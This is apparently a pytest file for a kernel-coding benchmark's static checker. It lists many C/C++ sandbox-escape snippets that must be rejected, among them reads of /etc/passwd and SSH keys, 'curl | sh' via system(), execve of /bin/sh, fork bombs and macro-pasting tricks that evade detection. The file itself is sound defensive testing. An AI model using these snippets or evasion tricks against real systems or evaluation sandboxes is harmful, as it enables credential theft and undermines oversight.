"""Static checks: one realistic attempt per rule is rejected with that rule, also when a macro
assembles the name; legitimate kernel code (every expert solution in benchmark_cases/, and
tricky-but-harmless constructs real host code uses) is not."""

from __future__ import annotations

from pathlib import Path

import pytest

from npukernelbench.checks import RULES
from npukernelbench.checks import check_sources as check_with
from npukernelbench.spec import SpecError, load_spec
from npukernelbench.toolchains.ascendc_sim import AscendCSimToolchain

ROOT = Path(__file__).resolve().parents[2]
CASES = ROOT / "benchmark_cases"

SIM = AscendCSimToolchain()


def check_sources(files: dict[str, str]):
    """The static checks as evaluate runs them with the simulator: its headers, its preprocessor."""
    return check_with(files, SIM.include_allowlist(), SIM.preprocessing())


TILING_HEAD = '#include "register/op_def_registry.h"\nnamespace optiling {\n'
TILING_TAIL = "\n}\n"


def host(body: str) -> dict[str, str]:
    return {"op_host/add_custom.cpp": TILING_HEAD + body + TILING_TAIL,
            "op_kernel/add_custom.cpp": '#include "kernel_operator.h"\n'}


ATTACKS: list[tuple[str, dict[str, str], str]] = [
    ("abs-include-passwd", {"op_kernel/k.cpp": '#include "/etc/passwd"\n'}, "include-path"),
    ("dotdot-include-repo", {"op_kernel/k.cpp": '#include "../../../../pyproject.toml"\n'}, "include-path"),
    ("angle-dotdot", {"op_kernel/k.cpp": "#include <register/../../../etc/passwd>\n"}, "include-path"),
    ("computed-include", {"op_kernel/k.cpp": '#define F "/etc/passwd"\n#include F\n'}, "include-path"),
    ("digraph-include", {"op_kernel/k.cpp": '%:include "/etc/shadow"\n'}, "include-path"),
    ("spliced-include", {"op_kernel/k.cpp": '#inc\\\nlude "/etc/hostname"\n'}, "include-path"),
    ("include-next", {"op_kernel/k.cpp": "#include_next <kernel_operator.h>\n"}, "include-next"),
    ("import", {"op_kernel/k.cpp": '#import "x.h"\n'}, "include-next"),
    ("fstream-header", {"op_host/h.cpp": "#include <fstream>\n"}, "include-not-allowed"),
    ("unistd-header", {"op_host/h.cpp": "#include <unistd.h>\n"}, "include-not-allowed"),
    ("sim-internal-header", {"op_kernel/k.cpp": '#include "npukb_sim/runtime.h"\n'}, "include-not-allowed"),
    ("has-include-probe", {"op_host/h.cpp": '#if __has_include("/root/.ssh/id_rsa")\n#endif\n'},
     "include-path"),
    ("fopen-in-tiling", host('FILE* f = fopen("/etc/passwd", "r");'), "file-access"),
    ("std-fopen", host('auto f = std::fopen("/work/main/benchmark_cases/x/reference.py", "r");'),
     "file-access"),
    ("open-syscall-wrapper", host('int fd = ::open("/etc/passwd", 0);'), "file-access"),
    ("open64-fortify", host('int fd = __open_2("/etc/passwd", 0);'), "file-access"),
    ("ifstream", host('std::ifstream in("/etc/passwd");'), "file-access"),
    ("filesystem", host('for (auto& e : std::filesystem::directory_iterator("/")) {}'), "file-access"),
    ("spliced-fopen", host('FILE* f = fo\\\npen("/etc/passwd", "r");'), "file-access"),
    ("socket", host("int s = socket(2, 1, 0);"), "network"),
    ("connect", host("connect(s, addr, len);"), "network"),
    ("system", host('system("curl http://x | sh");'), "process"),
    ("popen", host('popen("cat /etc/passwd", "r");'), "process"),
    ("fork-loop", host("while (true) { fork(); }"), "process"),
    ("builtin-fork", host("__builtin_fork();"), "process"),
    ("libc-system", host('extern "C" int __libc_system(const char*); __libc_system("id");'), "process"),
    ("execve", host('execve("/bin/sh", nullptr, nullptr);'), "process"),
    ("fn-pointer-system", host("auto run = &system;"), "process"),
    ("setsid-daemon", host("setsid();"), "process"),
    # a kernel that kills itself would pass for a process killed from outside (an infrastructure failure)
    ("raise-sigkill", host("raise(9);"), "process"),
    ("pthread-kill", host("pthread_kill(pthread_self(), 9);"), "process"),
    ("dlopen", host('dlopen("libc.so.6", 2);'), "dynamic-loading"),
    ("dlsym", host('auto f = dlsym(nullptr, "system");'), "dynamic-loading"),
    ("getenv", host('const char* h = getenv("HOME");'), "environment"),
    ("syscall", host("syscall(2, path, 0);"), "raw-syscall"),
    ("mmap", host("void* p = mmap(nullptr, 4096, 7, 0x22, -1, 0);"), "memory-mapping"),
    ("signal", host("signal(11, handler);"), "signals"),
    ("std-thread", host("std::thread t([] {});"), "threads"),
    ("inline-asm", {"op_kernel/k.cpp": 'void f() { asm volatile("syscall"); }\n'}, "inline-asm"),
    ("gnu-asm", {"op_kernel/k.cpp": 'void f() { __asm__ __volatile__("nop"); }\n'}, "inline-asm"),
    ("asm-label", host('extern "C" int my_open(const char*, int) __asm__("open");'), "inline-asm"),
    # names assembled by macros: the checks read the preprocessed text, where they are spelled out
    ("token-paste-asm", {"op_kernel/k.cpp": '#define A(x, y) x##y\nvoid f() { A(as, m)("nop"); }\n'},
     "inline-asm"),
    ("digraph-paste-fopen", {"op_kernel/k.cpp": '#include <cstdio>\n#define A(x, y) x%:%:y\n'
                                                'void f() { A(fo, pen)("/etc/passwd", "r"); }\n'}, "file-access"),
    ("macro-alias-fopen", host('#define OPEN fopen\nvoid f() { OPEN("/etc/passwd", "r"); }'), "file-access"),
    ("pasted-socket", host("#define P(a, b) a##b\nint s = P(sock, et)(2, 1, 0);"), "network"),
    ("pasted-system", host('#define P(a, b) a##b\nvoid f() { P(sys, tem)("id"); }'), "process"),
    ("pasted-dlopen", host('#define P(a, b) a##b\nvoid* h = P(dlo, pen)("libc.so.6", 2);'), "dynamic-loading"),
    ("pasted-getenv", host('#define P(a, b) a##b\nconst char* h = P(get, env)("HOME");'), "environment"),
    ("pasted-syscall", host("#define P(a, b) a##b\nlong r = P(sys, call)(39);"), "raw-syscall"),
    ("pasted-mmap", host("#define P(a, b) a##b\nvoid* m = P(mm, ap)(nullptr, 4096, 7, 0x22, -1, 0);"),
     "memory-mapping"),
    ("pasted-signal", host("#define P(a, b) a##b\nvoid f() { P(sig, nal)(11, nullptr); }"), "signals"),
    ("pasted-thread", host("#define P(a, b) a##b\nvoid f() { std::P(thr, ead) t([] {}); }"), "threads"),
    ("pasted-constructor", host("#define P(a, b) a##b\n__attribute__((P(constr, uctor))) static void e() {}"),
     "code-before-main"),
    ("pasted-weakref", host('#define P(a, b) a##b\nstatic int o() __attribute__((P(weak, ref)("open")));'),
     "symbol-alias"),
    ("pasted-internals", {"op_kernel/k.cpp": "#define P(a, b) a##b\nvoid f() { P(npu, kb)::block(); }\n"},
     "simulator-internals"),
    ("constructor", host("__attribute__((constructor)) static void early() {}"), "code-before-main"),
    ("init-array", host('__attribute__((section(".init_array"))) static void* p = nullptr;'),
     "code-before-main"),
    ("weakref", host('static int o(const char*, int) __attribute__((weakref("open")));'), "symbol-alias"),
    ("pragma-poison", {"op_kernel/k.cpp": "#pragma GCC optimize(\"O0\")\n"}, "pragma"),
    ("_Pragma", {"op_kernel/k.cpp": '_Pragma("GCC dependency \\"/etc/passwd\\"")\n'}, "pragma"),
    ("define-private", {"op_kernel/k.cpp": "#define private public\n#include \"kernel_operator.h\"\n"},
     "macro-keyword"),
    ("line-directive", {"op_kernel/k.cpp": '#line 1 "/etc/passwd"\n'}, "directive"),
    ("sim-internals", {"op_kernel/k.cpp": "void f() { npukb::block().finish_cycles = 0; }\n"},
     "simulator-internals"),
    # issue 17: ways to the cost state or around the raw-access instrumentation
    ("thread-pointer", {"op_kernel/k.cpp": "void f() { char* tp = (char*)__builtin_thread_pointer(); }\n"},
     "thread-storage"),
    ("thread-local", {"op_kernel/k.cpp": "thread_local int probe;\n"}, "thread-storage"),
    ("gnu-thread", {"op_kernel/k.cpp": "static __thread int probe;\n"}, "thread-storage"),
    ("errno-address", {"op_kernel/k.cpp": "int* f() { return &errno; }\n"}, "thread-storage"),
    ("pthread-self", {"op_kernel/k.cpp": 'extern "C" unsigned long pthread_self();\n'}, "thread-storage"),
    ("no-sanitize", {"op_kernel/k.cpp": '__attribute__((no_sanitize("kernel-address"))) void f(float* p) {}\n'},
     "no-instrumentation"),
    ("gnu-no-sanitize", {"op_kernel/k.cpp": "[[gnu::no_sanitize_address]] void f(float* p) {}\n"},
     "no-instrumentation"),
    ("profile-hook", {"op_kernel/k.cpp": 'extern "C" void __cyg_profile_func_enter(void*, void*);\n'},
     "simulator-internals"),
    ("asan-hook", {"op_kernel/k.cpp": 'extern "C" void __asan_load4_noabort(unsigned long);\n'},
     "simulator-internals"),
    ("sim-namespace", {"op_kernel/k.cpp": "using L = AscendC::sim::LocalLoc;\n"}, "simulator-internals"),
    ("tensor-internals", {"op_kernel/k.cpp": "template <class T> auto f(T& t) { return t.loc().owner; }\n"},
     "simulator-internals"),
    ("line-marker", {"op_kernel/k.cpp": '# 7 "/sim/include/npukb_sim/kernel/state.h"\nvoid f();\n'}, "directive"),
    # other spellings of the same libc function (LFS, fortify, glibc-internal, nocancel)
    ("fopen64", host('FILE* f = fopen64("/etc/passwd", "r");'), "file-access"),
    ("open64-fortified", host('int fd = __open64_2("/etc/passwd", 0);'), "file-access"),
    ("open-nocancel", host('int fd = __open_nocancel("/etc/passwd", 0);'), "file-access"),
    ("glibc-internal-fork", host("__GI___libc_fork();"), "process"),
    ("sys-prefixed-mmap", host("__sys_mmap(nullptr, 4096, 7, 0x22, -1, 0);"), "memory-mapping"),
    ("mmap64", host("void* p = mmap64(nullptr, 4096, 7, 0x22, -1, 0);"), "memory-mapping"),
    ("fopen-chk", host('__fopen_chk("/etc/passwd", "r");'), "file-access"),
    # backslash-newline splices, also with blanks between the backslash and the newline (GCC joins them)
    ("spliced-fopen-trailing-blanks", host('FILE* f = fo\\ \t\npen("/etc/passwd", "r");'), "file-access"),
    ("spliced-include-trailing-blank", {"op_kernel/k.cpp": '#inc\\  \nlude "/etc/hostname"\n'}, "include-path"),
    ("spliced-directive-start", {"op_kernel/k.cpp": '\\\n#include "/etc/hostname"\n'}, "include-path"),
    # a directive after a comment on its line, or with a comment between '#' and its name
    ("comment-then-include", {"op_kernel/k.cpp": '/* c */ #include "/etc/passwd"\n'}, "include-path"),
    ("comment-inside-directive", {"op_kernel/k.cpp": '# /* c */ include "/etc/passwd"\n'}, "include-path"),
    ("multiline-comment-then-include", {"op_kernel/k.cpp": '/* a\n b */ #include <sys/mman.h>\n'},
     "include-not-allowed"),
    ("macro-body-fopen", {"op_kernel/k.cpp": "#define OPEN fopen\n"}, "file-access"),
    ("macro-body-system", {"op_kernel/k.cpp": "#define RUN(x) system(x)\nvoid f() { RUN(0); }\n"}, "process"),
    ("has-include-next", {"op_kernel/k.cpp": "#if __has_include_next(<x.h>)\n#endif\n"}, "include-next"),
    ("has-include-dotdot", {"op_kernel/k.cpp": '#if __has_include("../../etc/x.h")\n#endif\n'}, "include-path"),
    ("undef-keyword", {"op_kernel/k.cpp": "#undef private\n"}, "macro-keyword"),
    ("ident-directive", {"op_kernel/k.cpp": '#ident "x"\n'}, "directive"),
    ("pragma-poison-word", {"op_kernel/k.cpp": "#pragma GCC poison x\n"}, "pragma"),
    ("pragma-push-macro", {"op_kernel/k.cpp": '#pragma push_macro("x")\n'}, "pragma"),
    ("backslash-include", {"op_kernel/k.cpp": '#include "op_host\\\\x.h"\n'}, "include-path"),
    ("empty-include", {"op_kernel/k.cpp": "#include <>\n"}, "include-path"),
    ("escaping-dotdot", {"op_kernel/k.cpp": '#include "../../x.h"\n', "x.h": ""}, "include-path"),
    ("mman-header", {"op_host/h.cpp": "#include <sys/mman.h>\n"}, "include-not-allowed"),
    ("toolchain-prefix-only", {"op_kernel/k.cpp": "#include <register/../x.h>\n"}, "include-path"),
    ("toolchain-dir-not-a-header", {"op_kernel/k.cpp": "#include <platform/config.json>\n"}, "include-not-allowed"),
    ("toolchain-dir-odd-name", {"op_kernel/k.cpp": "#include <lib/a b.h>\n"}, "include-not-allowed"),
    ("fini-array", host('__attribute__((section(".fini_array"))) static void* p = nullptr;'), "code-before-main"),
    ("raw-string-section", host('__attribute__((section(R"(.init_array)"))) static void* p = nullptr;'),
     "code-before-main"),
    ("std-async", host("auto f = std::async([] { return 1; });"), "threads"),
    ("ifunc", host('int f() __attribute__((ifunc("r")));'), "symbol-alias"),
    ("destructor", host("__attribute__((destructor)) static void late() {}"), "code-before-main"),
    ("pthread", host("pthread_create(&t, nullptr, f, nullptr);"), "threads"),
    ("sigaction", host("sigaction(11, &sa, nullptr);"), "signals"),
    ("kill", host("kill(1, 9);"), "process"),
    ("environ", host("char** e = environ;"), "environment"),
    ("accept4", host("accept4(s, nullptr, nullptr, 0);"), "network"),
    ("unlink", host('unlink("/tmp/x");'), "file-access"),
]


@pytest.mark.parametrize("files,rule", [(f, r) for _, f, r in ATTACKS], ids=[n for n, _, _ in ATTACKS])
def test_attack_is_rejected_with_its_rule(files: dict[str, str], rule: str) -> None:
    assert rule in RULES
    finding = check_sources(files)
    assert finding is not None, "not rejected"
    assert finding.rule == rule, str(finding)
    assert f"'{rule}'" in str(finding) and finding.path in str(finding)


def test_finding_names_file_and_line() -> None:
    finding = check_sources({"op_host/x.cpp": "// fine\nint a;\n\nauto f = fopen;\n"})
    assert finding is not None and (finding.path, finding.line) == ("op_host/x.cpp", 4)
    assert str(finding).startswith("rejected by static check 'file-access' at op_host/x.cpp:4:")


HARMLESS = {
    "comments-and-strings": '// fork() system("x") fopen /etc/passwd asm\n/* #include "/etc/passwd" */\n'
                            'const char* s = "call system() or fork() then asm";\n',
    # uses of members named like libc functions (declaring them is rejected: it looks like the
    # extern "C" redeclaration attack)
    "members-named-like-libc": "template <class P> void g(P& p, P* q) { p.open(); q->system = 1; }\n",
    "std-algorithms": "#include <algorithm>\n#include <cstdint>\n"
                      "int m(int a, int b) { return std::max(a, b); }\n",
    "pragma-once-unroll": "#pragma once\n#pragma unroll\n#pragma GCC unroll 4\n",
    "quoted-toolchain-headers": '#include "kernel_operator.h"\n#include "lib/matmul_intf.h"\n'
                                '#include "tiling/platform/platform_ascendc.h"\n',
    "thread-as-a-word": "int thread = 0; int threadNum = 8;\n",
    "stringify": "#define STR(x) #x\nconst char* s = STR(hello);\n",
    "loc-and-sim-as-words": "struct P { int loc; int sim; } p; int f() { return p.loc + p.sim; }\n",
    "null-directive": "#\nint x;\n",
    # what real host code does: logging macros that paste __VA_ARGS__, timing with <chrono>, std::cout
    "va-args-paste": '#include <cstdio>\n#define LOGE(fmt, ...) printf(fmt, ##__VA_ARGS__)\n'
                     'void f(int n) { LOGE("n=%d", n); }\n',
    "name-paste": "#define FIELD(name) int name##_len = 0;\nFIELD(tile)\n",
    "chrono-iostream-sstream": "#include <chrono>\n#include <iostream>\n#include <sstream>\n"
                               "void f() { auto t = std::chrono::steady_clock::now(); (void)t; std::cout << 1; }\n",
    "toolchain-macro-in-own-macro": '#include "kernel_operator.h"\n'
                                    "#define LOAD(t, p) GET_TILING_DATA(t, p)\n"
                                    "extern \"C\" __global__ __aicore__ void k(GM_ADDR p) { LOAD(t, p); }\n",
    "unknown-header-left-to-the-build": '#include "kernel_utils.h"\n',
    "raw-string": 'const char* s = R"x(fork(); system("id"); #include "/etc/passwd")x";\n',
    "char-literals": "char a = '#'; char b = '\\\\'; int fork_count = 0;\n",
    "words-containing-names": "int opened = 0; int systematic = 1; int reopen_count = 2; int kill_switch = 3;\n",
    "async-and-thread-words": "int async = 1; int thread = 2;\n",
    "member-calls": "template <class S> void f(S s, S* p) { s.open = p->system; s . fork(); p -> kill(); }\n",
    "allowed-directives": "#ifndef X\n#define X 1\n#elif defined(Y)\n#else\n#endif\n#undef X\n"
                          "#if 0\n#error never\n#warning never\n#endif\n#pragma pack(1)\n"
                          "#pragma GCC diagnostic push\n",
    "spliced-code": "int a = 1 + \\\n 2;\n",
    "standard-headers": "#include <cstdint>\n#include <vector>\n#include <cmath>\n#include <string.h>\n",
    "has-include-allowed": "#if __has_include(<vector>)\n#endif\n",
    "hash-in-string": 'const char* s = "##";\n',
    "numbers": "float x = 1e-5f + 0x1p3 + 1'000;\n",
}


def test_project_headers_resolve_by_path() -> None:
    files = {"op_host/x_tiling.h": "#pragma once\n", "op_host/x.cpp": '#include "x_tiling.h"\n',
             "op_kernel/k.cpp": "#include <x_tiling.h>\n#include <op_host/x_tiling.h>\n"}
    assert check_sources(files) is None
    assert check_sources({**files, "op_kernel/k.cpp": '#include "../op_host/x_tiling.h"\n'}) is None
    finding = check_sources({**files, "op_kernel/k.cpp": '#include "../op_host/y_tiling.h"\n'})
    assert finding is not None and finding.rule == "include-path" and finding.path == "op_kernel/k.cpp"


def test_lines_are_counted_in_the_original_text() -> None:
    text = "int a = 1 + \\\n 2;\n/* one\ntwo */\nauto f = fopen;\n"
    finding = check_sources({"op_host/x.cpp": text})
    assert finding is not None and finding.line == 5, finding
    finding = check_sources({"op_host/x.cpp": "int a;\nint b;\n#inc\\\nlude </x>\n"})
    assert finding is not None and finding.line == 3 and finding.rule == "include-path"


def test_first_file_in_path_order_is_reported() -> None:
    files = {"op_kernel/b.cpp": "auto f = fopen;\n", "op_host/a.cpp": "fork();\n"}
    finding = check_sources(files)
    assert finding is not None and finding.path == "op_host/a.cpp" and finding.rule == "process"


@pytest.mark.parametrize("text", list(HARMLESS.values()), ids=list(HARMLESS))
def test_harmless_code_passes(text: str) -> None:
    assert check_sources({"op_kernel/k.cpp": text}) is None


def test_files_the_build_does_not_compile_are_not_checked() -> None:
    files = {"op_host/aclnn_x.cpp": '#include "/etc/passwd"\nvoid f() { system("id"); }\n',
             "op_host/x_l0.cpp": '#include <unistd.h>\n', "CMakeLists.txt": "#optiling\n",
             "op_host/x.cpp": "int a;\n", "op_kernel/x.cpp": "int b;\n"}
    assert check_sources(files) is None


def test_dotdot_include_of_a_project_file_passes() -> None:
    files = {"op_host/x_tiling.h": "#pragma once\n", "op_kernel/x.cpp": '#include "../op_host/x_tiling.h"\n'}
    assert check_sources(files) is None
    files = {"op_kernel/x.cpp": '#include "../op_host/missing.h"\n'}
    assert check_sources(files).rule == "include-path"


def _solutions() -> list[tuple[str, dict[str, str]]]:
    found = []
    for toml in sorted(CASES.glob("**/case.toml")):
        try:
            spec = load_spec(toml.parent)
        except SpecError:          # a broken case is reported by the case tests, not here
            continue
        if spec.solution:
            found.append((str(toml.parent.relative_to(CASES)), dict(spec.solution)))
    return found


def test_every_expert_solution_passes_the_checks() -> None:
    solutions = _solutions()
    assert solutions, "no solutions found under benchmark_cases/"
    rejected = [f"{case}: {finding}" for case, files in solutions if (finding := check_sources(files))]
    assert rejected == []


def test_toolchain_macro_in_an_argument_on_the_next_line_is_not_an_internal() -> None:
    # The preprocessor reports the whole invocation (arguments on later lines included) on its first
    # line: OP_LOGE_WITHOUT_REPORT, a toolchain macro, expands to the simulator's host logger.
    host = ('#include "register/op_def_registry.h"\n#include "aclnn/opdev/op_log.h"\n'
            "#define CHECK(cond, log_func, ret) if (cond) { log_func; ret; }\n"
            "int f(const char* name, int* p) {\n"
            "    CHECK(p == nullptr,\n"
            '        OP_LOGE_WITHOUT_REPORT(name, "%s", "null"),\n'
            "        return 1);\n"
            "    return 0;\n"
            "}\n")
    assert check_sources({"op_host/x.cpp": host}) is None
    spelled = host.replace('OP_LOGE_WITHOUT_REPORT(name, "%s", "null")', "::npukb_host_log::log(\"E\", name)")
    finding = check_sources({"op_host/x.cpp": spelled})
    assert finding is not None and finding.rule == "simulator-internals"
